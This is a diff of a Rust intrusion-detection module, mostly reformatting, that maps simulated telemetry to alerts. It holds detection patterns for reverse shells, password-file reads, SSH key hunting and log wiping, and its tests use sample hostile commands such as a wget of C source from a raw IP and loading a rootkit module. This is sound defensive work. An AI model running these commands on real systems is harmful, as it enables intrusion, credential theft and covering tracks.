@@ -15,8 +15,7 @@ use simnet::addr::Cidr;
 use simnet::flow::{Direction, Proto, Service};
 use simnet::rng::FxHashSet;
 use telemetry::record::{
-    ConnRecord, DbRecord, HttpRecord, LogRecord, NoticeKind, NoticeRecord, ProcessRecord,
-    SshRecord,
+    ConnRecord, DbRecord, HttpRecord, LogRecord, NoticeKind, NoticeRecord, ProcessRecord, SshRecord,
 };
 
 use crate::alert::{Alert, Entity};
@@ -60,7 +59,10 @@ impl Default for SymbolizerConfig {
                 Pattern::new("*/kinsing*"),
                 Pattern::new("*/xmrig*"),
             ],
-            internal_nets: vec![simnet::addr::ncsa_production(), simnet::addr::ncsa_secondary()],
+            internal_nets: vec![
+                simnet::addr::ncsa_production(),
+                simnet::addr::ncsa_secondary(),
+            ],
             anomalous_bytes: 512 * 1024 * 1024,
             exfil_bytes: 8 * 1024 * 1024 * 1024,
             odd_hours: (0, 4),
@@ -72,34 +74,66 @@ impl Default for SymbolizerConfig {
 /// Ordered process-cmdline rules: first match wins.
 fn exec_rules() -> &'static [(&'static [&'static str], AlertKind)] {
     &[
-        (&["*base64 -d*", "*base64 --decode*"], AlertKind::Base64DecodeExec),
+        (
+            &["*base64 -d*", "*base64 --decode*"],
+            AlertKind::Base64DecodeExec,
+        ),
         (&["insmod *", "*modprobe *"], AlertKind::KernelModuleLoaded),
         (
             &["make -C /lib/modules*", "*make*modules*", "*kbuild*"],
             AlertKind::CompileKernelModule,
         ),
         (
-            &["wget *.c*", "wget *.sh*", "wget *.x86_64*", "curl *.c*", "curl *.sh*"],
+            &[
+                "wget *.c*",
+                "wget *.sh*",
+                "wget *.x86_64*",
+                "curl *.c*",
+                "curl *.sh*",
+            ],
             AlertKind::DownloadSensitive,
         ),
         (
-            &["find * id_rsa*", "find * -name *id_rsa*", "*grep *IdentityFile*"],
+            &[
+                "find * id_rsa*",
+                "find * -name *id_rsa*",
+                "*grep *IdentityFile*",
+            ],
             AlertKind::SshKeyEnumeration,
         ),
         (&["*known_hosts*"], AlertKind::KnownHostsEnumeration),
         (&["*bash_history*"], AlertKind::BashHistoryAccess),
-        (&["*/etc/shadow*", "*/etc/passwd*"], AlertKind::PasswordFileAccess),
-        (&["*nc -e*", "*bash -i >&*", "*sh -i >&*"], AlertKind::ReverseShellPattern),
-        (&["*xmrig*", "*minerd*", "*kdevtmpfsi*"], AlertKind::CryptominerDeployed),
+        (
+            &["*/etc/shadow*", "*/etc/passwd*"],
+            AlertKind::PasswordFileAccess,
+        ),
+        (
+            &["*nc -e*", "*bash -i >&*", "*sh -i >&*"],
+            AlertKind::ReverseShellPattern,
+        ),
+        (
+            &["*xmrig*", "*minerd*", "*kdevtmpfsi*"],
+            AlertKind::CryptominerDeployed,
+        ),
         (
             &["ssh -oStrictHostKeyChecking=no*", "*-oBatchMode=yes*"],
             AlertKind::LateralMovementAttempt,
         ),
-        (&["echo 0>/var/log/*", "echo 0>/var/spool/mail/*", "shred */var/log/*"], AlertKind::LogWipe),
+        (
+            &[
+                "echo 0>/var/log/*",
+                "echo 0>/var/spool/mail/*",
+                "shred */var/log/*",
+            ],
+            AlertKind::LogWipe,
+        ),
         (&["history -c*"], AlertKind::HistoryCleared),
         (&["touch -t *", "touch -r *"], AlertKind::TimestampTampering),
         (&["crontab *"], AlertKind::CronEntryAdded),
-        (&["systemctl enable *", "chkconfig * on*"], AlertKind::NewServiceInstall),
+        (
+            &["systemctl enable *", "chkconfig * on*"],
+            AlertKind::NewServiceInstall,
+        ),
         (&["gcc *", "cc *", "make *"], AlertKind::CompileSource),
     ]
 }
@@ -113,7 +147,10 @@ pub struct Symbolizer {
 
 impl Symbolizer {
     pub fn new(cfg: SymbolizerConfig) -> Self {
-        Symbolizer { cfg, alerts_emitted: 0 }
+        Symbolizer {
+            cfg,
+            alerts_emitted: 0,
+        }
     }
 
     pub fn with_defaults() -> Self {
@@ -193,7 +230,9 @@ impl Symbolizer {
                 Alert::new(c.ts, AlertKind::C2Communication, entity.clone())
                     .with_src(c.orig_h)
                     .with_dst(c.resp_h)
-                    .with_message(self.msg(&format!("beacon to known C2 {}:{}", c.resp_h, c.resp_p))),
+                    .with_message(
+                        self.msg(&format!("beacon to known C2 {}:{}", c.resp_h, c.resp_p)),
+                    ),
             );
         }
         if c.service == Service::Irc {
@@ -259,9 +298,13 @@ impl Symbolizer {
             );
             return;
         }
-        let source_ext = [".c", ".sh", ".pl", ".py"].iter().any(|e| h.uri.ends_with(e));
-        let binary_mime =
-            matches!(h.mime.as_str(), "application/x-executable" | "application/x-elf");
+        let source_ext = [".c", ".sh", ".pl", ".py"]
+            .iter()
+            .any(|e| h.uri.ends_with(e));
+        let binary_mime = matches!(
+            h.mime.as_str(),
+            "application/x-executable" | "application/x-elf"
+        );
         if source_ext && h.status == 200 {
             // Source fetched over plaintext HTTP: step 1 of the S1 pattern.
             out.push(
@@ -381,7 +424,10 @@ impl Symbolizer {
 
     fn on_process(&self, p: &ProcessRecord, out: &mut Vec<Alert>) {
         for (patterns, kind) in exec_rules() {
-            if patterns.iter().any(|pat| crate::pattern::glob_match(pat, &p.cmdline)) {
+            if patterns
+                .iter()
+                .any(|pat| crate::pattern::glob_match(pat, &p.cmdline))
+            {
                 out.push(
                     Alert::new(p.ts, *kind, Entity::User(p.user.clone()))
                         .with_host(p.host)
@@ -403,25 +449,42 @@ impl Symbolizer {
             );
         };
         let deleting = matches!(f.op, FileOp::Delete | FileOp::Truncate);
-        if deleting && crate::pattern::glob_match("/var/log/*", &f.path) {
-            push(out, AlertKind::LogWipe, format!("wipe {}", f.path));
-        } else if deleting && crate::pattern::glob_match("/var/spool/mail/*", &f.path) {
+        if deleting
+            && (crate::pattern::glob_match("/var/log/*", &f.path)
+                || crate::pattern::glob_match("/var/spool/mail/*", &f.path))
+        {
             push(out, AlertKind::LogWipe, format!("wipe {}", f.path));
         } else if deleting && f.path.ends_with(".bash_history") {
             push(out, AlertKind::HistoryCleared, format!("clear {}", f.path));
         } else if f.op == FileOp::Create && crate::pattern::glob_match("/tmp/*", &f.path) {
-            push(out, AlertKind::FileDropTmp, format!("drop {} by {}", f.path, f.process));
+            push(
+                out,
+                AlertKind::FileDropTmp,
+                format!("drop {} by {}", f.path, f.process),
+            );
         } else if matches!(f.op, FileOp::Create | FileOp::Modify)
             && f.path.ends_with(".ssh/authorized_keys")
         {
-            push(out, AlertKind::SshAuthorizedKeyAdded, format!("modify {}", f.path));
+            push(
+                out,
+                AlertKind::SshAuthorizedKeyAdded,
+                format!("modify {}", f.path),
+            );
         } else if f.op == FileOp::Create
             && (crate::pattern::glob_match("*RANSOM*", &f.path)
                 || crate::pattern::glob_match("*ransom*", &f.path))
         {
-            push(out, AlertKind::RansomNoteDropped, format!("note {}", f.path));
+            push(
+                out,
+                AlertKind::RansomNoteDropped,
+                format!("note {}", f.path),
+            );
         } else if f.op == FileOp::Create && f.path.ends_with(".encrypted") {
-            push(out, AlertKind::MassFileEncryption, format!("encrypt {}", f.path));
+            push(
+                out,
+                AlertKind::MassFileEncryption,
+                format!("encrypt {}", f.path),
+            );
         } else if crate::pattern::glob_match("/etc/cron*", &f.path) {
             push(out, AlertKind::CronEntryAdded, format!("cron {}", f.path));
         }
@@ -448,7 +511,10 @@ impl Symbolizer {
                         format!("db auth as default account {}", d.user),
                     );
                 } else if !success {
-                    push(AlertKind::LoginFailed, format!("db auth failed for {}", d.user));
+                    push(
+                        AlertKind::LoginFailed,
+                        format!("db auth failed for {}", d.user),
+                    );
                 }
             }
             DbCommandKind::ShowVersion => {
@@ -466,7 +532,10 @@ impl Symbolizer {
                 push(AlertKind::LoExportExecution, format!("lo_export to {path}"));
             }
             DbCommandKind::CopyFromProgram { program } => {
-                push(AlertKind::RemoteCodeExecAttempt, format!("COPY FROM PROGRAM '{program}'"));
+                push(
+                    AlertKind::RemoteCodeExecAttempt,
+                    format!("COPY FROM PROGRAM '{program}'"),
+                );
             }
             DbCommandKind::Query => {
                 if crate::pattern::glob_match("*' OR *", &d.statement)
@@ -481,15 +550,23 @@ impl Symbolizer {
     fn on_audit(&self, a: &telemetry::record::AuditRecord, out: &mut Vec<Alert>) {
         if a.syscall == "setuid" && a.args.contains('0') && a.exit_code == 0 && a.user != "root" {
             out.push(
-                Alert::new(a.ts, AlertKind::PrivilegeEscalation, Entity::User(a.user.clone()))
-                    .with_host(a.host)
-                    .with_message(self.msg(&format!("[{}] setuid(0) by {}", a.hostname, a.user))),
+                Alert::new(
+                    a.ts,
+                    AlertKind::PrivilegeEscalation,
+                    Entity::User(a.user.clone()),
+                )
+                .with_host(a.host)
+                .with_message(self.msg(&format!("[{}] setuid(0) by {}", a.hostname, a.user))),
             );
         } else if a.syscall == "ptrace" && a.args.contains("osquery") {
             out.push(
-                Alert::new(a.ts, AlertKind::MonitorTampering, Entity::User(a.user.clone()))
-                    .with_host(a.host)
-                    .with_message(self.msg(&format!("[{}] ptrace on monitor", a.hostname))),
+                Alert::new(
+                    a.ts,
+                    AlertKind::MonitorTampering,
+                    Entity::User(a.user.clone()),
+                )
+                .with_host(a.host)
+                .with_message(self.msg(&format!("[{}] ptrace on monitor", a.hostname))),
             );
         }
     }
@@ -533,23 +610,41 @@ mod tests {
 
     #[test]
     fn probe_becomes_port_scan() {
-        let alerts =
-            sym().symbolize(&conn(ConnState::S0, Direction::Inbound, "103.102.1.1", "141.142.2.1", 22, 0));
+        let alerts = sym().symbolize(&conn(
+            ConnState::S0,
+            Direction::Inbound,
+            "103.102.1.1",
+            "141.142.2.1",
+            22,
+            0,
+        ));
         assert_eq!(alerts.len(), 1);
         assert_eq!(alerts[0].kind, AlertKind::PortScan);
     }
 
     #[test]
     fn postgres_probe_becomes_db_probe() {
-        let alerts = sym()
-            .symbolize(&conn(ConnState::S0, Direction::Inbound, "111.200.1.1", "141.142.77.5", 5432, 0));
+        let alerts = sym().symbolize(&conn(
+            ConnState::S0,
+            Direction::Inbound,
+            "111.200.1.1",
+            "141.142.77.5",
+            5432,
+            0,
+        ));
         assert_eq!(alerts[0].kind, AlertKind::RepeatedProbeDb);
     }
 
     #[test]
     fn outbound_probe_is_outbound_scanning() {
-        let alerts = sym()
-            .symbolize(&conn(ConnState::S0, Direction::Outbound, "141.142.2.1", "8.8.8.8", 22, 0));
+        let alerts = sym().symbolize(&conn(
+            ConnState::S0,
+            Direction::Outbound,
+            "141.142.2.1",
+            "8.8.8.8",
+            22,
+            0,
+        ));
         assert_eq!(alerts[0].kind, AlertKind::OutboundScanning);
     }
 
@@ -558,21 +653,41 @@ mod tests {
         let mut cfg = SymbolizerConfig::default();
         cfg.c2_addresses.insert("194.145.9.9".parse().unwrap());
         let mut s = Symbolizer::new(cfg);
-        let alerts =
-            s.symbolize(&conn(ConnState::SF, Direction::Outbound, "141.142.77.5", "194.145.9.9", 443, 100));
+        let alerts = s.symbolize(&conn(
+            ConnState::SF,
+            Direction::Outbound,
+            "141.142.77.5",
+            "194.145.9.9",
+            443,
+            100,
+        ));
         assert!(alerts.iter().any(|a| a.kind == AlertKind::C2Communication));
     }
 
     #[test]
     fn exfil_thresholds() {
         let big = 10 * 1024 * 1024 * 1024;
-        let alerts =
-            sym().symbolize(&conn(ConnState::SF, Direction::Outbound, "141.142.2.1", "5.5.5.5", 443, big));
+        let alerts = sym().symbolize(&conn(
+            ConnState::SF,
+            Direction::Outbound,
+            "141.142.2.1",
+            "5.5.5.5",
+            443,
+            big,
+        ));
         assert!(alerts.iter().any(|a| a.kind == AlertKind::DataExfiltration));
         let mid = 600 * 1024 * 1024;
-        let alerts =
-            sym().symbolize(&conn(ConnState::SF, Direction::Outbound, "141.142.2.1", "5.5.5.5", 443, mid));
-        assert!(alerts.iter().any(|a| a.kind == AlertKind::AnomalousDataVolume));
+        let alerts = sym().symbolize(&conn(
+            ConnState::SF,
+            Direction::Outbound,
+            "141.142.2.1",
+            "5.5.5.5",
+            443,
+            mid,
+        ));
+        assert!(alerts
+            .iter()
+            .any(|a| a.kind == AlertKind::AnomalousDataVolume));
     }
 
     #[test]
@@ -630,7 +745,9 @@ mod tests {
             user_agent: "curl/8".into(),
         });
         let alerts = sym().symbolize(&r);
-        assert!(alerts.iter().any(|a| a.kind == AlertKind::PiiInOutboundHttp && a.is_critical()));
+        assert!(alerts
+            .iter()
+            .any(|a| a.kind == AlertKind::PiiInOutboundHttp && a.is_critical()));
     }
 
     #[test]
@@ -648,12 +765,20 @@ mod tests {
                 direction: dir,
             })
         };
-        assert_eq!(sym().symbolize(&rec(false, Direction::Inbound, 12))[0].kind, AlertKind::LoginFailed);
-        assert_eq!(sym().symbolize(&rec(true, Direction::Inbound, 12))[0].kind, AlertKind::LoginSuccess);
+        assert_eq!(
+            sym().symbolize(&rec(false, Direction::Inbound, 12))[0].kind,
+            AlertKind::LoginFailed
+        );
+        assert_eq!(
+            sym().symbolize(&rec(true, Direction::Inbound, 12))[0].kind,
+            AlertKind::LoginSuccess
+        );
         let odd = sym().symbolize(&rec(true, Direction::Inbound, 3));
         assert!(odd.iter().any(|a| a.kind == AlertKind::LoginUnusualHour));
         let pivot = sym().symbolize(&rec(true, Direction::Internal, 12));
-        assert!(pivot.iter().any(|a| a.kind == AlertKind::InternalPivotLogin));
+        assert!(pivot
+            .iter()
+            .any(|a| a.kind == AlertKind::InternalPivotLogin));
     }
 
     #[test]
@@ -670,7 +795,9 @@ mod tests {
             direction: Direction::Inbound,
         });
         let alerts = sym().symbolize(&r);
-        assert!(alerts.iter().any(|a| a.kind == AlertKind::GhostAccountLogin));
+        assert!(alerts
+            .iter()
+            .any(|a| a.kind == AlertKind::GhostAccountLogin));
     }
 
     #[test]
@@ -688,15 +815,24 @@ mod tests {
             })
         };
         let k = |cmd: &str| sym().symbolize(&proc(cmd)).first().map(|a| a.kind);
-        assert_eq!(k("wget http://64.215.4.5/abs.c"), Some(AlertKind::DownloadSensitive));
-        assert_eq!(k("make -C /lib/modules/5.4/build modules"), Some(AlertKind::CompileKernelModule));
+        assert_eq!(
+            k("wget http://64.215.4.5/abs.c"),
+            Some(AlertKind::DownloadSensitive)
+        );
+        assert_eq!(
+            k("make -C /lib/modules/5.4/build modules"),
+            Some(AlertKind::CompileKernelModule)
+        );
         assert_eq!(k("make all"), Some(AlertKind::CompileSource));
         assert_eq!(k("insmod rootkit.ko"), Some(AlertKind::KernelModuleLoaded));
         assert_eq!(
             k("find ~/ /root /home -maxdepth 2 -name id_rsa*"),
             Some(AlertKind::SshKeyEnumeration)
         );
-        assert_eq!(k("cat /home/x/.ssh/known_hosts"), Some(AlertKind::KnownHostsEnumeration));
+        assert_eq!(
+            k("cat /home/x/.ssh/known_hosts"),
+            Some(AlertKind::KnownHostsEnumeration)
+        );
         assert_eq!(
             k("ssh -oStrictHostKeyChecking=no -oBatchMode=yes root@141.142.2.9"),
             Some(AlertKind::LateralMovementAttempt)
@@ -721,21 +857,34 @@ mod tests {
             })
         };
         let mut s = sym();
-        let a = s.symbolize(&db(DbCommandKind::ShowVersion, "SHOW server_version_num", "postgres"));
+        let a = s.symbolize(&db(
+            DbCommandKind::ShowVersion,
+            "SHOW server_version_num",
+            "postgres",
+        ));
         assert_eq!(a[0].kind, AlertKind::DbVersionRecon);
         let a = s.symbolize(&db(
-            DbCommandKind::LargeObjectWrite { hex_prefix: "7F454C46".into(), bytes: 50_000 },
+            DbCommandKind::LargeObjectWrite {
+                hex_prefix: "7F454C46".into(),
+                bytes: 50_000,
+            },
             "lo_from_bytea",
             "postgres",
         ));
         assert_eq!(a[0].kind, AlertKind::ElfMagicInDbBlob);
         let a = s.symbolize(&db(
-            DbCommandKind::LoExport { path: "/tmp/kp".into() },
+            DbCommandKind::LoExport {
+                path: "/tmp/kp".into(),
+            },
             "select lo_export(1, '/tmp/kp')",
             "postgres",
         ));
         assert_eq!(a[0].kind, AlertKind::LoExportExecution);
-        let a = s.symbolize(&db(DbCommandKind::Auth { success: true }, "auth", "postgres"));
+        let a = s.symbolize(&db(
+            DbCommandKind::Auth { success: true },
+            "auth",
+            "postgres",
+        ));
         assert_eq!(a[0].kind, AlertKind::DefaultCredentialUse);
     }
 
@@ -772,7 +921,14 @@ mod tests {
     #[test]
     fn counters_track_emissions() {
         let mut s = sym();
-        let r = conn(ConnState::S0, Direction::Inbound, "1.1.1.1", "141.142.2.1", 22, 0);
+        let r = conn(
+            ConnState::S0,
+            Direction::Inbound,
+            "1.1.1.1",
+            "141.142.2.1",
+            22,
+            0,
+        );
         s.symbolize(&r);
         s.symbolize(&r);
         assert_eq!(s.alerts_emitted(), 2);
